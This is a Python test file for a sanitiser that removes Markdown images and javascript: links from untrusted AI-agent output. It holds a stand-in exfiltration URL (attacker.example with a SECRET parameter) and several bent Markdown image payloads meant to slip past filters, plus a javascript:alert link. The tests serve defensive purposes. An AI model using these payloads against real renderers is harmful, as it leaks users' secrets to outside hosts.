"""No Markdown image survives the cleaning of agent text, however its syntax is bent, and the
cleaning stays idempotent (docs/reliability.md P-03)."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from cursor_cloud_agents.core.untrusted import clean

EXFIL = "https://attacker.example/?d=SECRET"
_COMMONMARK = MarkdownIt("commonmark")


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def live(text: str) -> list[str]:
    """What a CommonMark renderer would fetch or follow in `text`: image sources and javascript: links."""
    found: list[str] = []
    for token in _tokens(_COMMONMARK.parse(text)):
        if token.type == "image":
            found.append(f"image {token.attrGet('src')}")
        elif token.type == "link_open" and str(token.attrGet("href") or "").lower().startswith("javascript:"):
            found.append(f"link {token.attrGet('href')}")
    return found


@pytest.mark.parametrize(
    "hostile",
    [
        f"![x]({EXFIL})",  # the plain case the cleaning always handled
        f"![![a](https://e.example/1)]({EXFIL})",  # an image in an image's text
        f"![a [b] c]({EXFIL})",  # balanced brackets in the alt text
        f"![{'a' * 600}]({EXFIL})",  # an alt text past the pattern's bound
        f"![a\n]({EXFIL})",  # a line break in the alt text
        f'![a]({EXFIL}\n"title")',  # the title on the next line
        "[[a](javascript:x)](javascript:alert(1))",  # an unsafe link around an unsafe link
        f"vec![1, 2] and ![x]({EXFIL})",  # code that looks like the start of an image, then an image
    ],
    ids=["plain", "nested", "brackets", "long-alt", "newline-alt", "newline-title", "nested-link", "vec-macro"],
)
def test_cleaned_agent_text_has_no_live_image_or_script_link_and_cleaning_again_changes_nothing(hostile: str) -> None:
    """Rendered as Markdown, whether as the field's text or inside the answer's JSON (where a line break is
    the two characters \\n), the cleaned text fetches nothing and runs nothing."""
    cleaned = clean(hostile)
    assert live(cleaned) == []
    assert live(json.dumps({"result": cleaned}, ensure_ascii=False)) == []
    assert clean(cleaned) == cleaned


def test_where_bent_image_syntax_may_hide_a_link_keeps_its_words_and_url_as_text() -> None:
    """The fallback cannot tell `vec![` from an image whose alt the patterns do not take: a text holding both
    keeps each link's words and URL, readable, without the syntax (a web link alone stays a link)."""
    text = "Use vec![1, 2]; see [docs](https://example.com/a)."
    assert clean(text) == "Use vec![1, 2]; see [docs] (https://example.com/a)."
    assert clean("See [docs](https://example.com/a).") == "See [docs](https://example.com/a)."
